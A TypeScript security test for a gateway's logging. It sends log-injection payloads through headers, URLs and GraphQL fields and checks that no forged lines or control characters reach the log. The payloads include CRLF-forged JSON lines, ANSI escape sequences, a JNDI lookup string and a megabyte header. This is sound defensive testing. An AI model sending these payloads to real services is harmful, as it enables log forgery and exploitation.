// S18: what callers and providers would like to see in the log: lines of their own, colours, look-ups, a megabyte.
import { setTimeout as delay } from 'node:timers/promises'
import { z } from 'zod'
import { toAnswer } from '../../../test/support/hostile-upstream.ts'
import { type Gateway, isGateway } from './gateway.ts'
import { sendRaw, toLines, toRequest } from './raw-http.ts'
import type { Attack } from './target.ts'
import { openWays } from './ways.ts'

const MARK = 'forgedline'
const FIELD_LIMIT = 1024
/** What the process writes is on its way for a moment. */
const WRITTEN_MS = 300

const texts = [
  `x\r\n{"level":"error","msg":"${MARK}"}`,
  `x\n{"level":"error","msg":"${MARK}"}\n`,
  `\u001b[2J\u001b[31m${MARK}\u001b]0;title\u0007`,
  `\${jndi:ldap://${MARK}.example/a}`,
  `","level":"fatal","forged":"${MARK}`,
  `\u2028{"msg":"${MARK}"}\u2029`,
  `\u0085${MARK}\u009b31m`,
  `%0a${MARK}%0d`,
  `${MARK}${'x'.repeat(10_000)}`,
]

/** A line as the log has it. */
const lineSchema = z.looseObject({
  level: z.union([z.string(), z.number()]),
  time: z.union([z.string(), z.number()]),
  msg: z.string().optional(),
})

/** S18. */
export async function attackLog({ target, judgement }: Attack): Promise<void> {
  await delay(WRITTEN_MS)
  const from = target.lines.length
  const caller = toLines(target.caller)
  const ids: string[] = []
  let requests = 0
  const send = async (line: string, headers: readonly string[], body?: string) => {
    requests += 1
    const { headers: answered } = await sendRaw(target, toRequest(line, [...caller, ...headers], body))
    ids.push(answered.get('x-request-id') ?? '')
  }
  for (const text of texts) {
    const inHeader = Buffer.from(text)
      .toString('latin1')
      .replace(/[\r\n]/g, '')
    const inAddress = encodeURIComponent(text).slice(0, 8000)
    await send('GET /v1/accounts', [
      `User-Agent: ${inHeader}`,
      `X-Request-Id: ${inHeader}`,
      `Referer: ${inHeader}`,
      `X-Forwarded-For: ${inHeader}`,
    ])
    await send(`GET /v1/accounts/left/streams/${inAddress}/recordings`, [])
    await send(`GET /${inAddress}?${inAddress}`, [])
    await send(
      'POST /graphql',
      ['Content-Type: application/json'],
      JSON.stringify({ query: '{stream(account:"left",key:"x"){key}}', operationName: text }),
    )
    await send('POST /graphql', ['Content-Type: application/json'], JSON.stringify({ query: text }))
    await send(
      'POST /graphql',
      ['Content-Type: application/json'],
      JSON.stringify({
        query: 'query($key:String!){stream(account:"left",key:$key){state}}',
        variables: { key: text },
      }),
    )
    await send('GET /v1/accounts', [`X-Api-Key: ${inHeader}`])
  }
  const flood = await sendRaw(target, toRequest('GET /healthz', [`User-Agent: ${'x'.repeat(1_000_000)}`]))
  judgement.equals('megabyteUserAgent', [0, 431, 400].includes(flood.status), true)
  if (isGateway(target)) await makeProviderWrite(target)
  await delay(WRITTEN_MS)

  const lines = target.lines.slice(from)
  const parsed = lines.map((line) => lineSchema.safeParse(parse(line)).data)
  judgement.note('requests', requests)
  judgement.note('lines', lines.length)
  judgement.equals('linesThatAreNone', parsed.filter((line) => line === undefined).length, 0)
  judgement.equals(
    'forgedLines',
    parsed.filter((line) => line?.msg?.startsWith(MARK) || line?.['forged'] !== undefined).length,
    0,
  )
  judgement.equals(
    'controlCharacters',
    lines.filter((line) => /[\p{Cc}\u2028\u2029]/u.test(line) || /\\u00[01189]|\\u2028|\\[nr]/.test(line)).length,
    0,
  )
  judgement.atMost('longestField', Math.max(0, ...parsed.map((line) => longestText(line))), FIELD_LIMIT)
  // What is no HTTP has no id.
  const told = ids.filter((id) => id !== '')
  judgement.equals('strangeRequestIds', told.filter((id) => !/^[A-Za-z0-9_-]{1,64}$/.test(id)).length, 0)
  judgement.equals('requestIdsTwice', told.length - new Set(told).size, 0)
  // A request is over: one line. One whose failure is ours has another, which says what failed.
  const linesOf = Map.groupBy(parsed, (line) => line?.['requestId'])
  judgement.atMost('linesOfARequest', Math.max(0, ...told.map((id) => linesOf.get(id)?.length ?? 0)), 2)
}

/** A provider that writes its errors for whoever reads the log. */
async function makeProviderWrite(target: Gateway): Promise<void> {
  const ways = openWays(target)
  for (const [index, text] of texts.entries()) {
    const body = JSON.stringify({ ret: 9000 + index, message: text, msg: text, code: text })
    target.hostile.behave((socket) =>
      socket.write(
        toAnswer(body, [
          `X-Request-Id: ${Buffer.from(text)
            .toString('latin1')
            .replace(/[\r\n]/g, '')
            .slice(0, 2000)}`,
        ]),
      ),
    )
    await ways.post({ query: `{stream(account:"hostile",key:"log${index}"){state}}` })
  }
  target.hostile.behave((socket) => socket.write(toAnswer('{}')))
  target.sandbox.pushSnapshot(
    ...texts.map((text) => ({ stream_id: text, pic_url: text, pic_full_url: text, create_time: text })),
  )
  await ways.close()
  await delay(1500)
}

function parse(line: string): unknown {
  try {
    return JSON.parse(line)
  } catch {
    return undefined
  }
}

function longestText(value: unknown): number {
  if (typeof value === 'string') return value.length
  if (typeof value !== 'object' || value === null) return 0
  return Math.max(0, ...Object.values(value).map(longestText))
}
